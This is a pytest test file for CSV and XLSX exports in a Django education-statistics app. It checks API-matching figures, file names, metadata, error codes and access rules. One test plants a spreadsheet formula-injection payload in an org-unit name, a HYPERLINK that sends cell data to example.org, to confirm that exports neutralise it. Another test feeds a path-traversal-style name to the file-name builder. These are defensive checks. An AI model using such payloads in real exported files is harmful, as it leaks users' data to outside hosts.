"""Server-side exports of page tables (`format=csv|xlsx` on the page's own URL, bilim/web/exports.py).

Checked against the analytics API on the small demo's warehouse: an export holds the very figures
the API answers for the same selection, as plain numbers, under one header row, in a file whose name
says what it holds; the XLSX keeps numbers numeric and carries a metadata sheet; text cannot run as a
formula; a bad format is a 400 with a message, and access is the page's.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from django.test.utils import override_settings

pytestmark = pytest.mark.django_db

API = "/api/v1/analytics"
HEADER = ["indicator", "indicator_name", "ou_code", "ou_name", "period", "school_year", "mode", "as_of",
          "value", "unit"]


@pytest.fixture(autouse=True)
def fresh_synthetic_flag():
    """`demo_synthetic()` caches its answer for a minute; other modules' registries are not the demo."""
    from django.core.cache import cache

    cache.delete("bilim:demo_synthetic")


@pytest.fixture
def latest(warehouse):
    from bilim.analytics import service

    return service.periods_available("ENROL")[-1]


def _school_year(period: str) -> str:
    y = int(period[:4])
    return f"{y}/{(y + 1) % 100:02d}"


def _csv(resp) -> tuple[list[str], list[dict[str, str]]]:
    assert resp.status_code == 200, resp.content[:500]
    assert resp["Content-Type"].startswith("text/csv")
    text = resp.content.decode("utf-8")
    assert not text.startswith("\ufeff")  # plain UTF-8 for programs; spreadsheets get the XLSX
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def _filename(resp) -> str:
    m = re.fullmatch(r'attachment; filename="([^"]+)"', resp["Content-Disposition"])
    assert m, resp["Content-Disposition"]
    return m.group(1)


def _api_values(client, **params) -> dict[tuple[str, str, str], float]:
    body = client.get(API, params).json()
    return {(dx, pe, ou): v for dx, pe, ou, v, *_ in body["rows"] if v is not None}


def _values(rows, skip_kz: bool = True) -> dict[tuple[str, str, str], float]:
    return {(r["indicator"], r["period"], r["ou_code"]): float(r["value"])
            for r in rows if r["value"] != "" and not (skip_kz and r["ou_code"] == "KZ")}


def test_regions_csv_holds_the_api_figures(admin_client, latest):
    resp = admin_client.get("/compare/", {"ind": ["GER_ISCED1", "EXP_PER_PUPIL"], "period": latest,
                                          "format": "csv"})
    header, rows = _csv(resp)
    assert header == HEADER  # one header row of codes, no line breaks
    api = _api_values(admin_client, dx="GER_ISCED1;EXP_PER_PUPIL", pe=latest, ou="LEVEL-region")
    assert api and _values(rows) == api  # the same numbers, to the last digit
    assert not any("," in r["value"] or " " in r["value"] for r in rows)  # no decimal comma, no grouping
    national = _api_values(admin_client, dx="GER_ISCED1;EXP_PER_PUPIL", pe=latest, ou="KZ")
    assert {k: v for k, v in _values(rows, skip_kz=False).items() if k[2] == "KZ"} == national
    today = dt.date.today().isoformat()
    assert {(r["mode"], r["as_of"], r["school_year"]) for r in rows} == {("current", today, _school_year(latest))}
    units = {r["indicator"]: r["unit"] for r in rows}
    assert units == {"GER_ISCED1": "%", "EXP_PER_PUPIL": "KZT"}
    assert all(r["indicator_name"] and r["ou_name"] for r in rows)
    assert _filename(resp) == f"GER_ISCED1+EXP_PER_PUPIL_regions_{_school_year(latest).replace('/', '-')}_current_{today}.csv"


def test_mode_and_as_of_are_the_pages(admin_client, latest):
    hist = admin_client.get("/compare/", {"ind": "GER_ISCED1", "period": "2020S", "mode": "historical",
                                          "format": "csv"})
    _header, rows = _csv(hist)
    assert _values(rows) == _api_values(admin_client, dx="GER_ISCED1", pe="2020S", ou="LEVEL-region",
                                        mode="historical")
    assert {(r["mode"], r["as_of"]) for r in rows} == {("historical", "")}
    assert _filename(hist) == "GER_ISCED1_regions_2020-21_historical.csv"
    cur = admin_client.get("/compare/", {"ind": "GER_ISCED1", "period": "2020S", "as_of": "2021-01-01",
                                         "format": "csv"})
    _header, rows = _csv(cur)
    assert _values(rows) == _api_values(admin_client, dx="GER_ISCED1", pe="2020S", ou="LEVEL-region",
                                        as_of="2021-01-01")
    assert {r["as_of"] for r in rows} == {"2021-01-01"}
    assert _filename(cur) == "GER_ISCED1_regions_2020-21_current_2021-01-01.csv"


def test_xlsx_keeps_numbers_and_carries_metadata(admin_client, latest):
    from openpyxl import load_workbook

    resp = admin_client.get("/compare/", {"ind": ["GER_ISCED1", "EXP_PER_PUPIL"], "period": latest,
                                          "format": "xlsx"})
    assert resp.status_code == 200 and resp["Content-Type"].startswith("application/vnd.openxmlformats")
    assert _filename(resp).endswith(".xlsx") and _filename(resp).startswith("GER_ISCED1+EXP_PER_PUPIL_regions_")
    wb = load_workbook(io.BytesIO(resp.content))
    assert wb.sheetnames == ["data", "metadata"]
    ws = wb["data"]
    assert [c.value for c in ws[1]] == HEADER and ws.freeze_panes == "A2"
    col = HEADER.index("value")
    cells = [row[col] for row in ws.iter_rows(min_row=2) if row[col].value is not None]
    assert cells and all(isinstance(c.value, float | int) and c.data_type == "n" for c in cells)
    formats = {ws.cell(row=c.row, column=HEADER.index("unit") + 1).value: c.number_format for c in cells}
    assert formats == {"%": "0.0", "KZT": "#,##0"}
    api = _api_values(admin_client, dx="GER_ISCED1;EXP_PER_PUPIL", pe=latest, ou="LEVEL-region")
    got = {(r[0].value, r[4].value, r[2].value): r[col].value for r in ws.iter_rows(min_row=2)
           if r[col].value is not None and r[2].value != "KZ"}
    assert got == pytest.approx(api, rel=1e-15)  # openpyxl writes 16 significant digits (Excel shows 15)
    meta = {r[0]: r[2] for r in wb["metadata"].iter_rows(values_only=True) if r and r[0]}
    assert meta["mode"] == "current" and meta["as_of"] == dt.date.today().isoformat()
    assert meta["source"] and meta["generated_at"] and "/compare/" in meta["page"] and "format" not in meta["page"]
    assert "synthetic" in meta  # the small demo is synthetic
    defs = {r[0]: r for r in wb["metadata"].iter_rows(values_only=True) if r and r[0] in ("GER_ISCED1", "EXP_PER_PUPIL")}
    assert defs["GER_ISCED1"][2] == "%" and "ENROL" in defs["GER_ISCED1"][4] and "POP" in defs["GER_ISCED1"][4]
    assert defs["EXP_PER_PUPIL"][1]


def test_a_formula_in_a_unit_name_is_neutralised(admin_client, latest):
    from openpyxl import load_workbook

    from bilim.registry.models import OrgUnit

    evil = '=HYPERLINK("http://example.org/?"&A1,"open")'
    OrgUnit.objects.filter(code="KZ-10").update(name_en=evil)
    _header, rows = _csv(admin_client.get("/compare/", {"ind": "GER_ISCED1", "period": latest, "format": "csv"}))
    assert {r["ou_name"] for r in rows if r["ou_code"] == "KZ-10"} == {"'" + evil}
    wb = load_workbook(io.BytesIO(admin_client.get("/compare/", {"ind": "GER_ISCED1", "period": latest,
                                                                   "format": "xlsx"}).content))
    cells = [r[3] for r in wb["data"].iter_rows(min_row=2) if r[2].value == "KZ-10"]
    assert cells and all(c.value == "'" + evil and c.data_type == "s" for c in cells)


def test_composite_table(admin_client, latest):
    resp = admin_client.get("/compare/", {"ind": "GER_ISCED1", "period": latest, "cind": ["GER_ISCED1", "PTR_ISCED1"],
                                          "format": "csv", "table": "composite"})
    header, rows = _csv(resp)
    assert header[:len(HEADER)] == HEADER and {"rank", "median_rank", "rank_p05", "rank_p95"} <= set(header)
    api = admin_client.get(API + "/composite", {"dx": "GER_ISCED1;PTR_ISCED1", "pe": latest, "draws": 500}).json()
    by_code = {r["ou_code"]: r for r in api["rows"]}
    assert {r["ou_code"] for r in rows} == set(by_code)
    for r in rows:
        assert float(r["value"]) == by_code[r["ou_code"]]["score"]
        assert int(r["rank"]) == by_code[r["ou_code"]]["rank"]
        assert float(r["median_rank"]) == by_code[r["ou_code"]]["median_rank"]
    assert {r["indicator"] for r in rows} == {"GER_ISCED1+PTR_ISCED1"}
    assert _filename(resp).startswith("GER_ISCED1+PTR_ISCED1_composite-regions_")


def test_equity_tables(admin_client, latest):
    resp = admin_client.get("/equity/", {"ind": "GER_ISCED1", "period": latest, "format": "csv"})
    header, rows = _csv(resp)
    assert header[:len(HEADER)] == HEADER and {"parity_index", "value_a", "value_b"} <= set(header)
    api = admin_client.get(API + "/parity", {"dx": "GER_ISCED1", "pe": latest, "ou": "LEVEL-region",
                                             "index": "GPIA"}).json()
    gpia = {r["ou_code"]: r["value"] for r in api["rows"] if r["value"] is not None}
    got = {r["ou_code"]: float(r["value"]) for r in rows
           if r["parity_index"] == "GPIA" and r["value"] and r["ou_code"] != "KZ"}
    assert gpia and got == gpia
    assert {(r["group_a"], r["group_b"]) for r in rows if r["parity_index"] == "GPIA"} == {("F", "M")}
    assert _filename(resp).startswith("GER_ISCED1_parity-regions_")
    resp = admin_client.get("/equity/", {"period": latest, "region": "KZ-75", "format": "csv", "table": "measures"})
    _header, rows = _csv(resp)
    api = admin_client.get(API + "/equity", {"dx": "EXP_PER_PUPIL", "pe": latest, "ou": "KZ-75"}).json()
    assert {r["measure"]: float(r["value"]) for r in rows if r["value"]} == \
        {r["measure"]: r["value"] for r in api["rows"] if r["value"] is not None}
    assert _filename(resp).startswith(f"EXP_PER_PUPIL_equity-KZ-75_{_school_year(latest).replace('/', '-')}_current_")


def test_profile_indicator_table(admin_client, warehouse):
    from bilim.web.analytics_bridge import KEY_INDICATORS, recent_school_years

    periods = recent_school_years(5)
    resp = admin_client.get("/ou/KZ-63/", {"format": "csv"})
    header, rows = _csv(resp)
    assert header == HEADER
    api = _api_values(admin_client, dx=";".join(KEY_INDICATORS), pe=";".join(periods), ou="KZ-63")
    assert api and _values(rows) == api
    assert {r["ou_code"] for r in rows} == {"KZ-63"}
    stem = _filename(resp)
    first, last = (_school_year(p).replace("/", "-") for p in (periods[0], periods[-1]))
    assert f"_KZ-63_{first}--{last}_current_" in stem and stem.startswith("GER_ISCED1+")


@pytest.mark.parametrize("url", ["/compare/", "/equity/", "/ou/KZ-63/"])
def test_a_bad_format_or_table_is_a_400_with_a_message(admin_client, warehouse, url):
    resp = admin_client.get(url, {"format": "pdf"})
    assert resp.status_code == 400
    assert "format=csv" in resp.content.decode()
    resp = admin_client.get(url, {"format": "csv", "table": "nonsense"})
    assert resp.status_code == 400 and "nonsense" in resp.content.decode()


def test_access_is_the_pages(client, client_as, small_demo, latest):
    from bilim.registry.models import OrgUnit

    # signed out: sent to sign in, as for the page
    resp = client.get("/compare/", {"format": "csv"})
    assert resp.status_code == 302 and "/accounts/login/" in resp["Location"]
    # the public has no registry: no profile, no export of it (a bad format changes nothing)
    public = client_as("public")
    assert public.get("/ou/KZ-63/").status_code == 403
    assert public.get("/ou/KZ-63/", {"format": "csv"}).status_code == 403
    assert public.get("/ou/KZ-63/", {"format": "pdf"}).status_code == 403
    # a district user sees on the comparison page what the public sees: the export holds the same figures
    district = client_as("district", OrgUnit.objects.get(code="KZ-63-001"))
    page = district.get("/compare/", {"ind": "GER_ISCED1", "period": latest}).content.decode()
    shown = {code: float(v) for code, v in re.findall(r'<tr data-code="([^"]+)"><td><a [^>]*>[^<]*</a></td>'
                                                      r'<td class="num" data-v="([^"]+)"', page)}
    _header, rows = _csv(district.get("/compare/", {"ind": "GER_ISCED1", "period": latest, "format": "csv"}))
    # (the public may not see the latest year yet: then page and export both fall back to an earlier one)
    assert shown and {ou: v for (_dx, _pe, ou), v in _values(rows).items()} == shown
    assert len({r["period"] for r in rows}) == 1
    # outside the district's scope: the profile refuses, and so does its export
    assert district.get("/ou/KZ-75/").status_code == 403
    assert district.get("/ou/KZ-75/", {"format": "csv"}).status_code == 403


def test_before_the_warehouse_exists(admin_client, tmp_path):
    with override_settings(BILIM_WAREHOUSE_PATH=tmp_path / "none.duckdb"):
        assert admin_client.get("/compare/").status_code == 200
        resp = admin_client.get("/compare/", {"format": "csv"})
    assert resp.status_code == 503 and "analytics refresh" in resp.content.decode()


def test_file_stem():
    from bilim.web.exports import file_stem

    assert file_stem(["GER_ISCED1"], "regions", ["2024S"], "current", dt.date(2026, 12, 2)) == \
        "GER_ISCED1_regions_2024-25_current_2026-12-02"
    assert file_stem(["A", "B"], "KZ-63", ["2020S", "2024S"], "historical", None) == "A+B_KZ-63_2020-21--2024-25_historical"
    assert file_stem(["A"], "x/../y z", ["2024S"], "current", None).endswith(dt.date.today().isoformat())
    assert "/" not in file_stem(["A"], "x/../y z", ["2024S"], "historical", None)
